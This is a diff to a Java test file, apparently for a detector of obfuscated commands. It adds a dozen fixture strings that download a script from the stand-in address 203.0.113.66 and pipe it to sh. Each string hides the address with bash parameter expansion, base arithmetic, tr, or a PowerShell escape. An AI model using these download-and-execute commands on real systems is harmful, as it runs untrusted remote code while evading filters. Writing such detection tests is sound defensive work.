@@ -44,6 +44,19 @@ final class WritingsTest {
                 list("s.Run Chr(%s), 0", ") & Chr("),
                 list("eval(chr(%s));", ").chr("),
                 list("eval(String.fromCharCode(%s))", ","),
+                // parameter expansion and arithmetic of bash(1), each seen with echo in place of curl
+                "H=2_03.0_.1_13.6_6; curl http://${H//_/}/d.sh | sh",
+                "H=2_03.0_.1_13.6_6; curl http://${H//_}/d.sh | sh",
+                "H='203-0-113-66'; curl http://${H//-/.}/d.sh | sh",
+                "H=203.0.113.pp; curl http://${H/pp/66}/d.sh | sh",
+                "H=x203.0.113.66; curl http://${H#x}/d.sh | sh",
+                "H=203.0.113.66.invalid; curl http://${H%.invalid}/d.sh | sh",
+                "H=__203.0.113.66__; curl http://${H:2:12}/d.sh | sh",
+                "curl http://$((0xcb)).$((0x0)).$((0x71)).$((0x42))/d.sh | sh",
+                "curl http://$((16#cb)).$((8#0)).$((2#1110001)).$((60+6))/d.sh | sh",
+                "A=$((0313)); curl http://$A.0.$((120 - 7)).$((6*11))/d.sh | sh",
+                "H=$(echo 2x03.0.x113.66 | tr -d x); curl http://$H/d.sh | sh",
+                "curl http://$(printf '2a03.b0.113.66' | tr -d 'ab')/d.sh | sh",
                 // PowerShell 7, about_Special_Characters
                 "\"curl http:`u{2f}`u{2f}203.0.113.66/d.sh\" | sh")) {
             assertTrue(
